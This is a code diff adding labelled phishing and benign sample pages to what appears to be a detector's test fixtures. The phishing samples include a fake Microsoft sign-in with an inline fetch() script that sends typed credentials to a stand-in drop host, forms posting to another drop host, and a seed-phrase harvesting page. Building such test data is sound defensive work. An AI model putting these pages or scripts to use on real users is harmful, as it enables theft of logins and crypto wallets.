@@ -76,6 +76,31 @@ const PHISHING: readonly LabelledPage[] = [
     title: "Раураl",
     body: `<h1>Раураl</h1>${form("next.php", text("E-mаil", "a"), text("Pаss\u200Bword", "b"), button("Log in"))}`,
   }),
+  phish(
+    "brand on top of the page",
+    "https://my-account-portal.net/",
+    {
+      title: "Sign in",
+      body: `<div style="font-size:40px">PayPal</div>${form("/login", user(), password(), button())}${menu("Help", "Privacy", "Terms", "Contact")}`,
+    },
+    { shown: "PayPal\nEmail\nPassword\nLog in\nHelp Privacy Terms Contact" },
+  ),
+  phish("a title that names nobody", "https://my-account-portal.net/", {
+    title: "Log in to your account",
+    body: `<h1>PayPal</h1>${form("/login", user(), password(), button())}${menu("Help", "Privacy", "Terms", "Contact", "Cookies", "About", "Imprint", "Jobs")}`,
+  }),
+  phish("first step sent elsewhere", "https://login-microsoft-portal.net/", {
+    title: "Sign in",
+    body: `<img alt="Microsoft" src="ms.svg"><h1>Sign in</h1>${form("http://collect-drop.xyz/s1.php", user("Email, phone, or Skype", "loginfmt"), button("Next"))}`,
+  }),
+  phish("sent by a script", "https://files-portal-view.net/", {
+    title: "Microsoft account",
+    body: `<img alt="Microsoft" src="ms.svg"><p>Sign in to see your file.</p><input type=email id=e placeholder="Email"><input type=password id=p placeholder="Password"><button>Sign in</button><script>fetch("http://exfil-drop.xyz/v1/log",{method:"POST",body:e.value+p.value})</script>`,
+  }),
+  phish("seed phrase", "https://claim-arb-tokens.net/", {
+    title: "Claim 2,400 ARB",
+    body: `<h1>Claim 2,400 ARB</h1><p>Enter your 12-word recovery phrase to receive them.</p><textarea name="seed" placeholder="recovery phrase"></textarea><button>Claim</button>`,
+  }),
   ...(["Account", "Welcome", ""] as const).map((title) =>
     phish("a title that names nobody", "http://192.0.2.9:8001/", {
       title,
@@ -353,6 +378,36 @@ const BENIGN: readonly LabelledPage[] = [
       title,
       body: `<h1>${title}</h1>${form("/login.php", user(), password(), button())}<a href=/forgot>Forgot</a>`,
     }),
+  ),
+  ...(
+    [
+      ["Turnverein Muster", "<p>Alles über unsere Kurse. Hier können Sie über uns lesen.</p>"],
+      ["Trädgårdsföreningen", "<p>Ett äpple om dagen: allt om trädgårdens äpple.</p>"],
+    ] as const
+  ).map(([name, words]) =>
+    benign("letters with marks", "http://verein-muster.example.de/", {
+      title: `${name} – Anmelden`,
+      lang: "de",
+      body: `<h1>${name}</h1>${words}${form("/login", user("E-Mail"), password("Passwort"), button("Anmelden"))}`,
+    }),
+  ),
+  benign("advice", "https://police-advice.example.dk/", {
+    title: "Tech support scams",
+    body: "<h1>Tech support scams</h1><p>A pop-up says that your computer is infected with a virus and that you must call Microsoft Support at +1-888-555-0142. It is a scam. Do not call.</p>",
+  }),
+  benign(
+    "log-in of phones at a provider",
+    "https://online.acme-bank-sample.com/",
+    {
+      title: "Acme Bank",
+      body: `<h1>Acme Bank</h1>${menu(...MANY.slice(0, 12))}${form("https://login.acme-id-sample.com/sso", user(), password(), button())}`,
+    },
+    {
+      known: {
+        cloaking: "a page that posts passwords to login.acme-id-sample.com",
+        hiddenCollector: "login.acme-id-sample.com",
+      },
+    },
   ),
   benign("title that names nobody", "https://portal.bygma-eksempel.dk/", {
     title: "Log ind",
